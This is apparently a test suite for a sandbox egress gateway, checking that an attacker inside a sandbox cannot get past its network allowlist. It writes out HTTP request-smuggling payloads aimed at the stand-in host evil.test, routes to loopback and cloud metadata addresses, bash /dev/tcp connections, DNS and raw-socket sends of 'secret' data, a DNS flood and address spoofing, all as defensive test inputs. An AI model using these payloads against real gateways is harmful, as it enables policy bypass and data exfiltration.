import { execFile } from "node:child_process";
import { type AddressInfo, connect, createServer, type Server } from "node:net";
import { promisify } from "node:util";
import { NetworkPolicy, type Telemetry } from "@ale/core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { EgressGateway } from "../../src/egress/gateway.ts";
import { QUERIES_PER_SECOND } from "../../src/egress/ruleset.ts";
import { probeCgroups, processesOf } from "../../src/host/cgroup.ts";
import { findTool } from "../../src/host/tools.ts";
import { BASE_IMAGE, defaultHome, resolveImage, type Sandbox } from "../../src/index.ts";
import { networkObstacle, networkSuite } from "../network-support.ts";
import { closeDriver, driver, spec, until } from "../support.ts";

/** A policy as somebody in the sandbox would get round it. Whatever is dialled ends at one server, which writes down what it hears. */

const OK = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
/** Names of the outside world that lead somewhere they should not. */
const LEADS: Readonly<Record<string, string>> = {
  "loopback.files.test": "127.0.0.1",
  "metadata.files.test": "169.254.169.254",
  "wire.files.test": "168.63.129.16",
  "mapped.files.test": "::ffff:10.0.0.5",
  "own.files.test": "203.0.113.77",
};

describe.skipIf(networkObstacle)(networkSuite("an attacker in a sandbox"), () => {
  const records: Telemetry[] = [];
  const heard: string[] = [];
  const dialled: string[] = [];
  const resolved: string[] = [];
  let answer = OK;
  let server: Server;
  let gateway: EgressGateway;
  let box: Sandbox;
  let pid: number;
  let address: string;
  let own: string;
  /** A neighbour, and what its resolver gave it for `other.test`. */
  let other: { readonly box: Sandbox; readonly address: string };
  let otherName: string;

  beforeAll(async () => {
    server = createServer((socket) => {
      const at = heard.push("") - 1;
      socket.on("error", () => {});
      socket.on("data", (piece) => {
        heard[at] += piece.toString("latin1");
        if (heard[at]!.includes("\r\n\r\n")) socket.write(answer);
      });
    });
    await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
    const { port } = server.address() as AddressInfo;
    gateway = await EgressGateway.open({
      onRecord: (record) => records.push(record),
      upstream: {
        own: () => ["203.0.113.77"],
        resolve: async (name) => {
          resolved.push(name);
          return [LEADS[name] ?? "203.0.113.5"];
        },
        dial: (to, toPort) => {
          dialled.push(`${to}:${toPort}`);
          return connect({ host: "127.0.0.1", port });
        },
      },
    });
    const one = await guest({
      mode: "allowlist",
      hosts: [{ name: "files.test", ports: [80, 443, 8080, 8443] }, { name: "*.files.test" }],
      addresses: [{ network: "203.0.113.0/24", ports: [9] }],
    });
    ({ box, pid, gateway: address, address: own } = one);
    const hosts = ["a", "b", "c", "other"].map((name) => ({ name: `${name}.test` }));
    other = await guest({ mode: "allowlist", hosts });
    for (const { name } of hosts)
      otherName = (await other.box.exec({ argv: ["getent", "ahostsv4", name] })).stdout.split(" ")[0]!;
  });

  async function guest(policy: object) {
    const made = await (await driver()).createFrom(resolveImage(defaultHome(), BASE_IMAGE), spec());
    const pids = (): readonly number[] => processesOf(probeCgroups(), made.id);
    const initPid = Math.min(...pids());
    const attachment = gateway.attach({
      sandbox: made.id,
      initPid,
      pids,
      policy: NetworkPolicy.parse(policy),
    });
    const setUp = `echo nameserver ${attachment.gateway} > /etc/resolv.conf`;
    await made.exec({ argv: ["sh", "-c", setUp], user: "root" });
    return { box: made, pid: initPid, gateway: attachment.gateway, address: attachment.address };
  }

  beforeEach(() => {
    for (const list of [records, heard, dialled, resolved]) list.length = 0;
    answer = OK;
  });

  afterAll(async () => {
    gateway[Symbol.dispose]();
    server.close();
    await closeDriver();
  });

  /** A script of Node's in the sandbox's network, with the arguments. What it prints. */
  const inside = async (script: string, ...argv: string[]): Promise<string> => {
    const command = [`--net=/proc/${pid}/ns/net`, process.execPath, "-e", script, "--", ...argv];
    return (await promisify(execFile)("nsenter", command)).stdout;
  };
  /** An address of the gateway's own for the name, as a program in the sandbox gets it. */
  const lookup = async (name: string): Promise<string> =>
    (await box.exec({ argv: ["getent", "ahostsv4", name] })).stdout.split(" ")[0]!;
  /** Sends the pieces one after another, each when the one before was answered or `waitMs` are over, and says what came back. */
  const say = async (port: number, pieces: readonly string[], host = "files.test", waitMs = 3_500) => {
    const script = `
      const [host, port, waitMs, ...pieces] = process.argv.slice(1);
      const socket = require("node:net").connect({ host, port: Number(port) });
      let got = "";
      socket.setEncoding("latin1");
      socket.on("error", () => {});
      socket.on("data", (text) => (got += text));
      socket.on("close", () => { console.log(got); process.exit(); });
      const next = () => {
        const piece = pieces.shift();
        if (piece === undefined) return socket.end();
        if (piece !== "") socket.write(Buffer.from(piece, "latin1"));
        if (pieces.length > 0) return setTimeout(next, Number(waitMs));
        socket.on("data", () => setTimeout(next, 100));
        setTimeout(next, 1500);
      };
      next();`;
    return inside(script, await lookup(host), String(port), String(waitMs), ...pieces);
  };
  const rules = (): (string | undefined)[] =>
    records.filter(({ kind }) => kind === "net.deny").map(({ net }) => net?.rule);
  const outside = (): string => heard.join("\n");
  const get = (host: string): string => `GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
  const SMUGGLED = get("evil.test");

  describe("hides a request for another host behind one that is allowed", () => {
    it.each([
      [
        "as the body of a GET that is sent in pieces",
        `GET / HTTP/1.1\r\nHost: files.test\r\nTransfer-Encoding: chunked\r\n\r\n${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`,
      ],
      [
        "as the body of a DELETE",
        `DELETE / HTTP/1.1\r\nHost: files.test\r\nTransfer-Encoding: chunked\r\n\r\n${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`,
      ],
      [
        "with a length and pieces at once",
        `POST / HTTP/1.1\r\nHost: files.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${SMUGGLED}`,
      ],
      [
        "with two lengths",
        `POST / HTTP/1.1\r\nHost: files.test\r\nContent-Length: 0\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
      ],
      [
        "with an encoding that few know",
        `POST / HTTP/1.1\r\nHost: files.test\r\nTransfer-Encoding: xchunked\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
      ],
      ["after a header that a line feed ends", `GET / HTTP/1.1\r\nHost: files.test\r\nX: a\n\n${SMUGGLED}`],
      ["after one that was answered", `${get("files.test")}${SMUGGLED}`],
      [
        "by asking for another protocol",
        `GET / HTTP/1.1\r\nHost: files.test\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n${SMUGGLED}`,
      ],
      ["in HTTP/2 from the beginning", `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${SMUGGLED}`],
      ["by asking for a tunnel", `CONNECT evil.test:80 HTTP/1.1\r\nHost: files.test\r\n\r\n${SMUGGLED}`],
    ])("%s", async (_how, text) => {
      await say(80, [text]);
      // As the body of a request, framed as one, it may arrive: it is no request then.
      for (const connection of heard) {
        const [head = "", ...rest] = connection.split("\r\n\r\n");
        expect(head).not.toContain("evil.test");
        if (rest.join("").includes("evil.test")) {
          expect(head).toMatch(/^transfer-encoding: chunked$/im);
          expect(rest.join("\r\n\r\n")).toMatch(/^[0-9a-f]+\r\n/i);
        }
      }
    });

    it.each([
      ["an absolute target", "GET http://evil.test/ HTTP/1.1\r\nHost: files.test\r\n\r\n"],
      ["a target with a user", "GET http://files.test@evil.test/ HTTP/1.1\r\nHost: files.test\r\n\r\n"],
      ["a target of another scheme", "GET ftp://evil.test/ HTTP/1.1\r\nHost: files.test\r\n\r\n"],
      ["a target without a scheme", "GET evil.test:80 HTTP/1.1\r\nHost: files.test\r\n\r\n"],
      ["an address as host", get("203.0.113.5")],
      ["two hosts", "GET / HTTP/1.1\r\nHost: files.test\r\nHost: evil.test\r\n\r\n"],
      ["a host in a line that goes on", "GET / HTTP/1.1\r\nHost: files.test\r\n\tevil.test\r\n\r\n"],
    ])("%s is refused", async (_what, text) => {
      await say(80, [text]);
      expect(dialled).toEqual([]);
      expect(outside()).not.toContain("evil.test");
    });

    it.each(["FILES.test", "files.test.", "files.test:80"])("%s is the same host", async (host) => {
      expect(await say(80, [get(host)])).toContain("ok");
    });
  });

  describe("speaks HTTP where no HTTP is looked for", () => {
    it.each([
      ["at once", [get("evil.test")]],
      ["after an empty line", [`\r\n${get("evil.test")}`]],
      ["with a method of its own", ["REPORT / HTTP/1.1\r\nHost: evil.test\r\n\r\n"]],
      ["after a silence", ["", get("evil.test")]],
      ["after half a word", ["GE", `T / HTTP/1.1\r\nHost: evil.test\r\n\r\n`]],
      ["after half a head", ["GET / HTTP/1.1\r\n", "Host: evil.test\r\n\r\n"]],
      ["for the right host first", ["", get("files.test"), get("evil.test")]],
    ])(
      "%s",
      async (_how, pieces) => {
        await say(8080, pieces);
        for (const connection of heard) expect(connection).not.toMatch(/evil\.test\r\n\r\n/);
        await until("it is told", () => rules().length > 0);
      },
      30_000,
    );

    it("TLS for another name, after a silence", async () => {
      const script = `
        const [host] = process.argv.slice(1);
        const socket = require("node:net").connect({ host, port: 8443 }, () => setTimeout(() => {
          const tls = require("node:tls").connect({ socket, servername: "evil.test", rejectUnauthorized: false });
          tls.on("error", () => process.exit());
        }, 3500));
        socket.on("close", () => process.exit());
        socket.on("error", () => process.exit());`;
      await inside(script, await lookup("files.test"));
      expect(outside()).not.toContain("evil.test");
      await until("it is told", () => rules().length > 0);
      expect(rules()).toEqual(["fronting"]);
    }, 30_000);
  });

  it.each(["loopback", "metadata", "wire", "mapped", "own"])(
    "an allowed name that leads to a place of the host (%s) is not dialled",
    async (label) => {
      const name = `${label}.files.test`;
      await say(80, [get(name)], name);
      expect(resolved).toEqual([name]);
      expect(dialled).toEqual([]);
      await until("it is told", () => rules().length > 0);
      expect(rules()).toEqual([label === "metadata" || label === "wire" ? "metadata" : "private"]);
    },
  );

  it("an address of the host itself is not reached by a network that happens to hold it", async () => {
    const connecting = (to: string): string => `exec 3<>/dev/tcp/${to}/9; echo x >&3; timeout 1 cat <&3`;
    await box.exec({ argv: ["bash", "-c", connecting("203.0.113.77")], timeoutMs: 15_000 });
    expect(dialled).toEqual([]);
    await box.exec({ argv: ["bash", "-c", connecting("203.0.113.78")], timeoutMs: 15_000 });
    expect(dialled).toEqual(["203.0.113.78:9"]);
  });

  it.each([
    ["the gateway, over TCP", () => address, 53, "sandbox"],
    ["another resolver, over TCP", () => "8.8.8.8", 53, "default"],
    ["a name's address that nobody was given", () => "198.18.77.77", 80, "name"],
    // Here it stands for another name, or for none.
    ["another sandbox's name by the address that it has there", () => otherName, 80, "fronting"],
  ])("no connection is had to %s", async (_what, to, port, rule) => {
    const script = `exec 3<>/dev/tcp/${to()}/${port}; printf 'GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n' >&3; cat <&3`;
    await box.exec({ argv: ["bash", "-c", script], timeoutMs: 15_000 });
    expect(dialled).toEqual([]);
    await until("it is told", () => rules().length > 0);
    expect(rules()).toEqual([rule]);
  });

  it.each([
    ["of every type", "secret.files.test", 255, 0],
    ["for text", "secret.files.test", 16, 0],
    ["for text of a name that is not allowed", "secret.evil.test", 16, 3],
    ["in capitals, with a final dot", "SECRET.files.test.", 1, 0],
  ])("a question %s goes nowhere", async (_what, name, type, code) => {
    const script = `
      const [host, name, type] = process.argv.slice(1);
      const labels = name.replace(/\\.$/, "").split(".").map((label) => String.fromCharCode(label.length) + label);
      const question = Buffer.from("\\0\\x07\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0" + labels.join("") + "\\0\\0" + String.fromCharCode(type) + "\\0\\x01", "latin1");
      const socket = require("node:dgram").createSocket("udp4");
      socket.on("message", (answer) => { console.log(answer[3] & 15, answer.readUInt16BE(6)); socket.close(); });
      socket.send(question, 53, host);`;
    const [answered, count] = (await inside(script, "192.0.2.53", name, String(type))).trim().split(" ");
    expect(Number(answered)).toBe(code);
    expect(Number(count)).toBe(type === 1 ? 1 : 0);
    expect(resolved).toEqual([]);
    await until("it is told", () => records.some(({ kind }) => kind === "dns.query"));
    expect(records.filter(({ kind }) => kind === "dns.query")).toHaveLength(1);
  });

  it("a flood of questions is answered at a bounded rate, and others' are answered meanwhile", async () => {
    const script = `
      const [host] = process.argv.slice(1);
      const question = Buffer.from("\\0\\x07\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x04evil\\x04test\\0\\0\\x01\\0\\x01", "latin1");
      const startedAt = Date.now();
      let answers = 0;
      const sockets = Array.from({ length: 20 }, () => require("node:dgram").createSocket("udp4"));
      for (const socket of sockets) socket.on("message", () => answers++);
      const all = sockets.flatMap((socket) => Array.from({ length: 250 }, () => new Promise((done) => socket.send(question, 53, host, done))));
      Promise.all(all).then(() => setTimeout(() => { console.log(answers, Date.now() - startedAt); process.exit(); }, 500));`;
    const [answers = 0, tookMs = 0] = (await inside(script, "192.0.2.53")).trim().split(" ").map(Number);
    expect(answers).toBeGreaterThan(0);
    expect(answers).toBeLessThanOrEqual(QUERIES_PER_SECOND * (1 + Math.ceil(tookMs / 1_000)));
    const { stdout } = await other.box.exec({ argv: ["getent", "ahostsv4", "other.test"] });
    expect(stdout).toContain(otherName);
  });

  it.each([
    [
      "QUIC",
      "udp",
      `require("node:dgram").createSocket("udp4").send("x", 443, "203.0.113.5", () => process.exit())`,
    ],
    [
      "a ping",
      "icmp",
      `require("node:child_process").spawnSync("perl", ["-e", 'socket(S, PF_INET, SOCK_RAW, 1); send(S, pack("C2n3", 8, 0, 63486, 1, 0), 0, pack("Sna4x8", 2, 0, pack("C4", 203, 0, 113, 5)))', "-MSocket"])`,
    ],
    [
      "a protocol of its own",
      "other",
      `require("node:child_process").spawnSync("perl", ["-MSocket", "-e", 'socket(S, PF_INET, SOCK_RAW, 253); send(S, "secret", 0, pack("Sna4x8", 2, 0, pack("C4", 203, 0, 113, 5)))'])`,
    ],
  ])("%s does not leave, and is told", async (_what, protocol, script) => {
    await inside(script);
    await until("it is told", () => rules().length > 0);
    expect(records.find(({ kind }) => kind === "net.deny")).toMatchObject({
      source: "nflog",
      net: { protocol, ip: "203.0.113.5" },
    });
    expect(dialled).toEqual([]);
  });

  it("IPv6 does not leave, also where it was switched on inside", async () => {
    const script = `
      require("node:fs").writeFileSync("/proc/sys/net/ipv6/conf/eth0/disable_ipv6", "0");
      const socket = require("node:dgram").createSocket("udp6");
      socket.bind(() => socket.send("x", 53, "fe80::1%eth0", () =>
        require("node:net").connect({ host: "fe80::1%eth0", port: 80, timeout: 1000 })
          .on("timeout", () => process.exit()).on("error", () => process.exit()).on("connect", () => console.log("connected"))));`;
    expect(await inside(script)).toBe("");
    expect(dialled).toEqual([]);
  });

  it.skipIf(findTool("ip") === undefined)("nobody speaks under another sandbox's address", async () => {
    const script = `
      const [ours, theirs] = process.argv.slice(1);
      require("node:child_process").spawnSync("ip", ["address", "add", theirs + "/32", "dev", "eth0"]);
      const ask = (from, done) => {
        const socket = require("node:dgram").createSocket("udp4");
        const question = Buffer.from("\\0\\x07\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x04evil\\x04test\\0\\0\\x01\\0\\x01", "latin1");
        socket.on("message", () => process.exit());
        socket.bind(0, from, () => socket.send(question, 53, "192.0.2.53", done));
      };
      ask(theirs, () => ask(ours));`;
    await inside(script, own, other.address);
    // The other's would have come before it.
    await until("our own question is told", () => records.length > 0);
    expect(new Set(records.map(({ sandbox }) => sandbox))).toEqual(new Set([box.id]));
  });

  it("no header and no target, whatever its bytes, ends the gateway", async () => {
    // Those that ASCII does not print, and the first beyond it.
    const bytes = Array.from({ length: 66 }, (_, i) => String.fromCharCode(i < 33 ? i : 94 + i));
    const texts = bytes.flatMap((byte) => [
      `GET /${byte} HTTP/1.1\r\nHost: files.test\r\n\r\n`,
      `GET / HTTP/1.1\r\nHost: files.test\r\nX: a${byte}b\r\n\r\n`,
      `GET / HTTP/1.1\r\nHost: files.test\r\nX${byte}: a\r\n\r\n`,
      `${byte}GET / HTTP/1.1\r\nHost: files.test\r\n\r\n`,
    ]);
    const script = `
      const [host, texts] = process.argv.slice(1);
      (async () => {
        for (const text of JSON.parse(texts))
          await new Promise((done) => {
            const socket = require("node:net").connect({ host, port: 80 });
            socket.on("error", done);
            socket.on("close", done);
            socket.on("data", () => socket.destroy());
            socket.end(Buffer.from(text, "latin1"));
          });
      })();`;
    const host = await lookup("files.test");
    // Under the rate at which a scan begins.
    for (let at = 0; at < texts.length; at += 64)
      await inside(script, host, JSON.stringify(texts.slice(at, at + 64)));
    expect(await say(80, [get("files.test")])).toContain("ok");
  }, 120_000);

  it.each([
    "000 Nothing",
    "200 \x01",
    "99 Low",
    "200 OK\r\nX: \x01",
    "200 OK\r\nX: \xff\r\nTransfer-Encoding: chunked, chunked",
    "101 Switching Protocols",
  ])("no answer ends it: %j", async (status) => {
    answer = `HTTP/1.1 ${status}\r\nContent-Length: 2\r\n\r\nok`;
    await say(80, [get("files.test")]);
    answer = OK;
    expect(await say(80, [get("files.test")])).toContain("ok");
  });
});
